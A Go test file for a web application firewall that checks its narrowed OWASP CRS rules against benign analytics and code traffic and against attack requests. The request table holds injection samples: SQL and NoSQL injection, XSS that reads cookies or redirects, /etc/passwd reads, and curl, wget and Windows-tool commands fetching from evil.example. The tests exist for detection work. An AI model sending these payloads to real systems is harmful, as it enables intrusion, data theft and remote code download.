package waf

import (
	"slices"
	"strconv"
	"strings"
	"testing"
)

// TestNarrowingsApply: every narrowing finds its rule in the CRS and its edit applies,
// and the narrowed rule keeps its id.
func TestNarrowingsApply(t *testing.T) {
	text, err := narrowedSecLang()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range narrowings {
		if !strings.Contains(text, "SecRuleRemoveById "+strconv.Itoa(n.id)+"\n") || !strings.Contains(text, `"id:`+strconv.Itoa(n.id)+",") {
			t.Errorf("narrowing %d: removal or rule missing from:\n%s", n.id, text)
		}
	}
}

// TestNarrowedRules: each narrowed rule still matches what the CRS wrote it for, and no
// longer matches the benign traffic it misfired on.
func TestNarrowedRules(t *testing.T) {
	tests := []struct {
		rule  int
		name  string
		req   *Request
		match bool
	}{
		{942290, "Mixpanel's cookie", withHeader(get("/"), "Cookie",
			`mp_0123456789abcdef_mixpanel=%7B%22distinct_id%22%3A%20%22%24device%3A18f%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D`), false},
		{942290, "PostHog's $set_once", post("/e", jsonType, `{"event":"$identify","$set_once":{"plan":"free"}}`), false},
		{942290, "[$ne] in the query", get("/login?user[$ne]=x&pass[$ne]=y"), true},
		{942290, "$where in JSON", post("/api/find", jsonType, `{"$where":"sleep(100)"}`), true},
		{942290, "$gt in a JSON key", post("/api/login", jsonType, `{"user":"admin","pass":{"$gt":""}}`), true},
		{932160, "PostHog's $pathname", post("/e", jsonType, `{"event":"$pageview","properties":{"$pathname":"/pricing"}}`), false},
		{480210, "PostHog's $pathname", post("/e", jsonType, `{"event":"$pageview","properties":{"$pathname":"/pricing"}}`), false},
		{480210, "echo $PATH", get("/?cmd=x;echo%20$PATH"), true},
		{480210, "${IFS} stays with 932160", get("/?cmd=cat${IFS}/etc/passwd"), false},
		{932160, "${IFS}", get("/?cmd=cat${IFS}/etc/passwd"), true},
		{932160, "/bin/bash", get("/?cmd=;/bin/bash%20-i"), true},
		{942190, "'select all' in a review", post("/review", formType, "body=Having+trouble+with+the+%27select+all%27+button."), false},
		{480220, "'select all' in a review", post("/review", formType, "body=Having+trouble+with+the+%27select+all%27+button."), false},
		{480220, "quote, SELECT, FROM", get("/?id=1%27%3B%20select%20password%20from%20users--"), true},
		{942190, "UNION SELECT after a quote", get("/?id=1%27%20union%20select%20%40%40version--"), true},
		{942190, "union and select in a sentence", post("/comments", formType, "body=The+credit+union+members+will+select+a+new+chair+from+among+themselves."), false},
		{942190, "union all select", get("/?id=1+union+all+select+1,2"), true},
		{942190, "union(select", get("/?id=1+union(select+1,2)"), true},
		{942190, "xp_cmdshell", get("/?q=%20exec%20xp_cmdshell%20%27dir%27"), true},
		{941180, "a breadcrumb naming window.location", post("/api/envelope", jsonType,
			`{"breadcrumbs":[{"message":"window.location changed to /checkout"},{"message":"null is not an object (evaluating 'el.innerHTML')"}]}`), false},
		{941180, "window.location assigned", get("/?q=%3Cimg%20src%3Dx%20onerror%3D%22window.location%3D%27%2F%2Fevil.example%27%22%3E"), true},
		{941180, "document.cookie concatenated", post("/api/items", jsonType, `{"title":"'+document.cookie+'"}`), true},
		{941180, "an HTML comment opener", get("/?q=%3C!--%3Cscript%3E"), true},
		{941180, "a member named in a post", post("/posts", formType,
			"body=Check+%60window.location.href%60+or+%60document.title%60+in+the+console."), false},
		{941180, "a member compared", post("/api/envelope", jsonType, `{"sample":"window.location.hash === '#login' was false"}`), false},
		{941180, "a member assigned", get("/?q=%22%3Bwindow.location.href%3D%27%2F%2Fevil.example%27%3B%2F%2F"), true},
		{941180, "a member called", post("/api/items", jsonType, `{"title":"document.cookie.split(';')"}`), true},
		{941180, "an issue template's comments", post("/acme/shop/issues/new", formType,
			"title=Checkout+fails&content=%3C!--+Please+describe+the+bug.+--%3E%0A1.+Pay%0A%3C!--+What+did+you+expect%3F+--%3E%0AIt+works."), false},
		{941180, "a comment holding markup", get("/?q=%3C!--%3Cimg%20src%3Dx%20onerror%3Dalert(1)//--%3E"), true},
		{941180, "an unclosed comment", get("/?q=%3Cb%3Ehi%3C/b%3E%3C!--"), true},
		{941180, "an SSI directive", get("/?q=%3C!--%23exec%20cmd%3D%22ls%22%20--%3E"), true},
		{941180, "a conditional comment", get("/?q=%3C!--%5Bif%20IE%5D%3E%3Cscript%3Ealert(1)%3C/script%3E%3C!%5Bendif%5D--%3E"), true},
		{941180, "a comment closed by ->", get("/?q=%3C!--%20x%20-%3E"), true},
		{920120, "an apostrophe in a file name", post("/upload", "multipart/form-data; boundary=BB",
			"--BB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"CV Olivia D'Angelo.docx\"\r\n\r\nPK\r\n--BB--\r\n"), false},
		{920120, "a semicolon in a file name", post("/upload", "multipart/form-data; boundary=BB",
			"--BB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg;.php\"\r\n\r\nx\r\n--BB--\r\n"), true},
		{942270, "a sentence with union, select and from", post("/api/tickets", jsonType,
			`{"description":"Union Station pickup would be ideal. Please select the best option from the list."}`), false},
		{942270, "union select from", get("/?id=1%20union%20select%20password%20from%20users"), true},
		{942270, "unionselectfrom (the CRS's test)", get("/?test=Xunionselectfrom"), true},
		{942270, "union all, comments between", get("/?id=1%20UNION/**/ALL/*x*/SELECT%20a%20FROM%20b"), true},
		{942270, "MySQL's versioned comments", get("/?id=1%20/*!50000union*/%20/*!50000select*/%20a%20from%20b"), true},
		{942270, "a line comment between", get("/?id=1%20union--%20x%0Aselect%20a%20from%20b"), true},
		{942270, "parentheses", get("/?id=1%20union(select(password)from(users))"), true},
		{942270, "distinctrow", get("/?id=1%20union%20distinctrow%20select%20a%20from%20b"), true},
		{922130, "a time in a file name", post("/upload", "multipart/form-data; boundary=BB",
			"--BB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"data_export_2026-12-06T10:15:30Z.csv\"\r\n\r\na,b\r\n--BB--\r\n"), false},
		{922130, "JavaServer Faces' field names", post("/upload.xhtml", "multipart/form-data; boundary=BB",
			"--BB\r\nContent-Disposition: form-data; name=\"form:email\"\r\n\r\njane@example.org\r\n--BB--\r\n"), false},
		{922130, "a blank in a header's name", post("/upload", "multipart/form-data; boundary=BB",
			"--BB\r\nContent- Disposition: form-data; name=\"f\"; filename=\"1.php\"\r\nContent-Disposition: form-data; name=\"post\"\r\n\r\nx\r\n--BB--\r\n"), true},
		{932140, "Python's list comprehension", post("/posts", formType,
			"body=evens+%3D+%5Bx+for+x+in+range(10)+if+x+%25+2+%3D%3D+0%5D"), false},
		{932140, "Go's if, a block", post("/api/posts", jsonType, `{"body":"for i, v := range items {\n\tif v == nil {\n\t\tcontinue\n\t}\n}"}`), false},
		{932140, "Python's if, a colon", post("/api/posts", jsonType, `{"body":"if n == 0:\n    return 1"}`), false},
		{932140, "JavaScript's if, a block", post("/api/reports", jsonType, `{"sample":"if (window.location.hash === '#login') {"}`), false},
		{932140, "if 1==1 calc", get("/?q=x%26if%201%3D%3D1%20calc"), true},
		{932140, "errorlevel compared, then ping", get("/?q=x%7C%20if%20%25errorlevel%25%20%3D%3D%200%20ping%20-n%205%20127.0.0.1"), true},
		{932140, "/I NOT, quoted words", get("/?q=%26if%20/i%20not%20%22%25os%25%22%3D%3D%22x%22%20start%20calc"), true},
		{932140, "JavaScript's if, &&", post("/api/posts", jsonType, `{"body":"if (a == b && c) {\n  go()\n}"}`), false},
		{932140, "a quoted string with a blank, one word", get("/?q=if%20%22A%20A%22%20%3D%3D%20%22A%20A%22%20echo%20same"), true},
		{932140, "===, as cmd takes it", get("/?q=IF%20NOT%20red%3D%3D%3Dred%20echo%20test"), true},
		{932140, "a fragment without its command", get("/?q=if%20not%20%7B%251%7D%20%3D%3D%20%7B%7D"), true},
		{932140, "EQU", get("/?q=%26IF%201%20EQU%201%20calc"), true},
		{932140, "a parenthesised block", get("/?q=%26if%20%25i%3D%3D6%20(cmd%20/c%20calc)"), true},
		{932140, "IF EXIST", get("/?q=%26if%20exist%20c:%5Cboot.ini%20calc"), true},
		{932140, "FOR", get("/?q=for%20/f%20%25i%20in%20(%27whoami%27)%20do%20echo%20%25i"), true},
		{932235, "time, then prose, then a word of the list", post("/api/reviews", jsonType,
			`{"content":"Third time I order here. Don't -- I repeat, don't -- wash it hot."}`), false},
		{932235, "watch, then prose", post("/comments", formType, "body=We+watch+every+match+together%3B+the+function+room+is+booked."), false},
		{932235, "time wget", get("/?q=x%3Btime%20wget%20http://evil.example/x"), true},
		{932235, "time -p, an option", get("/?q=time%20-p%20curl%20http://evil.example/x"), true},
		{932235, "watch -n 1, an option and its number", get("/?q=watch%20-n%201%20curl%20http://evil.example/x"), true},
		{932235, "env with an assignment", get("/?q=env%20X%3D1%20curl%20http://evil.example/x"), true},
		{932235, "eval of a substitution", get("/?q=eval%20$(curl%20http://evil.example/x)"), true},
		{942550, "Loki's line_format", get("/loki/api/v1/query_range?query=%7Bapp%3D%22nginx%22%7D%20%7C%3D%20%22error%22%20%7C%20line_format%20%22%7B%7B.msg%7D%7D%22"), false},
		{942550, "Rust's println!", post("/api/posts", jsonType, `{"body":"println!(\"{}\", v);"}`), false},
		{942550, "a literal, then <@", get("/?id=1%27%20OR%20%27%7B%22b%22:2%7D%27%20%3C@%20%27%7B%22a%22:1%7D%27"), true},
		{942550, "a literal cast to jsonb", get("/?id=%27%5B1,2%5D%27::jsonb%20-%201"), true},
		{942550, "a literal, then ->>", get("/?id=x%27%20OR%20%27%5B1,2,3%5D%27%20-%3E%3E%202%3D%273"), true},
		{942550, "json_extract glued to OR", get("/?id=OR%20json_extract(%27%7B%22id%22:14%7D%27,%20%27$.id%27)%3D14"), true},
		{932370, "SQL's UPDATE on a line of its own", post("/posts", formType,
			"body=In+Postgres%3A%0A%0AUPDATE+orders+SET+status+%3D+%27shipped%27%0AWHERE+id+%3D+7%3B"), false},
		{932370, "Python's print on a line of its own", post("/api/posts", jsonType, `{"body":"x = 1\nprint(x)"}`), false},
		{932370, "Update.exe --processStart", get("/?q=x%3Bupdate.exe%20--processStart%20calc.exe"), true},
		{932370, "Update /download, caret evasion", get("/?q=x%0AUp%5Edate%20/download%3Dhttp://evil.example/p"), true},
		{932370, "print /D:", get("/?q=x%26print%20/D:C:%5Cx.exe%20%5C%5Cevil%5Cs%5Cp.exe"), true},
		{932370, "print/d: joined", get("/?q=x%7Cprint/d:c:%5Cx.exe%20c:%5Cy.exe"), true},
		{932370, "&url= in a link", get("/share?link=https%3A%2F%2Ftwitter.com%2Fintent%2Ftweet%3Ftext%3Dhi%26url%3Dhttps%3A%2F%2Fshop.example.com%2Fp%2F42"), false},
		{932370, "url.dll", get("/?q=x%26url.dll,OpenURL%20c:%5Ct%5Cx.hta"), true},
		{932370, "printbrm as before", get("/?q=x%3Bprintbrm%20-b%20-d%20x"), true},
		{920420, "an OCI manifest", withMethod(post("/v2/acme/shop/manifests/1.4.2", "application/vnd.oci.image.manifest.v1+json",
			`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","layers":[]}`), "PUT"), false},
		{920420, "a CloudEvent", post("/events", "application/cloudevents+json", `{"specversion":"1.0","type":"com.example.order","source":"/shop","id":"A-1029"}`), false},
		{920420, "a +json lookalike", post("/events", "application/json+x", `{"a":1}`), true},
		{920420, "YAML", post("/config", "application/yaml", "a: 1\n"), true},
		{942100, "SQLi in a +json body, read as JSON", post("/v2/acme/shop/manifests/1", "application/vnd.oci.image.manifest.v1+json",
			`{"annotations":{"org.opencontainers.image.title":"1' OR '1'='1"}}`), true},
		{930130, "a clone of a repository", get("/acme/shop.git/info/refs?service=git-upload-pack"), false},
		{480230, "a clone of a repository", get("/acme/shop.git/info/refs?service=git-upload-pack"), false},
		{480230, "a .git directory", get("/.git/config"), true},
		{480230, "a .git directory below", get("/app/.git/HEAD"), true},
		{480230, "a .git directory, encoded and with backslashes", get("/app%5C.GIT%5Cconfig"), true},
		{930130, ".gitignore as before", get("/.gitignore"), true},
		{930130, ".htaccess as before", get("/.htaccess"), true},
		{920450, "Proxy (httpoxy)", withHeader(get("/"), "Proxy", "http://evil.example:8080"), true},
		{920450, "X-HTTP-Method-Override", withHeader(get("/"), "X-HTTP-Method-Override", "DELETE"), true},
		{920450, "If, the list's shortest entry", withHeader(get("/"), "If", "<http://a/> (<urn:x>)"), true},
		{920450, "Range, inside /content-range/", withHeader(get("/"), "Range", "bytes=0-99"), false},
		{920450, "TE, inside /content-encoding/'s letters", withHeader(get("/"), "TE", "trailers"), false},
		{920450, "X-Proxy-Id, holding an entry", withHeader(get("/"), "X-Proxy-Id", "7"), false},
	}
	for _, tc := range tests {
		t.Run(strconv.Itoa(tc.rule)+"/"+tc.name, func(t *testing.T) {
			v := pl1.get(t).Inspect(tc.req)
			got := slices.ContainsFunc(v.Matched, func(m Match) bool { return m.ID == tc.rule })
			if got != tc.match {
				t.Errorf("rule %d matched %v, want %v (matched %v)", tc.rule, got, tc.match, ids(v.Matched))
			}
		})
	}
}

// TestUnconfirmedMatchesDoNotScore: a narrowed rule whose first half matches and whose
// confirmation does not adds nothing to the score (the score moved to the chained rule;
// left on the first, it was added whether the chain matched or not).
func TestUnconfirmedMatchesDoNotScore(t *testing.T) {
	for _, req := range []*Request{
		post("/review", formType, "body=Having+trouble+with+the+%27select+all%27+button."),
		post("/api/envelope", jsonType, `{"breadcrumbs":[{"message":"window.location changed to /checkout"}]}`),
		post("/posts", formType, "body=evens+%3D+%5Bx+for+x+in+range(10)+if+x+%25+2+%3D%3D+0%5D"),
	} {
		checkVerdict(t, pl1.get(t).Inspect(req), want{NoMatches: true})
	}
}

func TestIsListEntry(t *testing.T) {
	const list = "/proxy/ /lock-token/ /content-range/ /if/"
	tests := []struct {
		value string
		want  bool
	}{
		{"proxy", true}, {"if", true}, {"content-range", true}, {"lock-token", true},
		{"range", false}, {"content", false}, {"i", false}, {"proxy/ /lock-token", true},
		{"", false}, {"/proxy/", false}, {"x-proxy", false}, {"proxy-x", false},
	}
	for _, tc := range tests {
		if got := isListEntry(list, tc.value); got != tc.want {
			t.Errorf("isListEntry(%q) = %v, want %v", tc.value, got, tc.want)
		}
		if want := strings.Contains(list, "/"+tc.value+"/"); tc.want != want {
			t.Errorf("%q: the table says %v, the CRS's way says %v", tc.value, tc.want, want)
		}
	}
	if !isListEntry("a //", "") || isListEntry("", "") {
		t.Error("an empty value is an entry only of a list holding //")
	}
}

// FuzzIsListEntry: isListEntry answers what the CRS's own construction answers, @within
// (substring) of "/"+value+"/", for any list and value.
func FuzzIsListEntry(f *testing.F) {
	f.Add("/proxy/ /if/", "if")
	f.Add("//", "")
	f.Add("/a/a/", "a/a")
	f.Fuzz(func(t *testing.T, list, value string) {
		if got, want := isListEntry(list, value), strings.Contains(list, "/"+value+"/"); got != want {
			t.Errorf("isListEntry(%q, %q) = %v, want %v", list, value, got, want)
		}
	})
}

// withMethod sets r's method.
func withMethod(r *Request, method string) *Request {
	r.Method = method
	return r
}
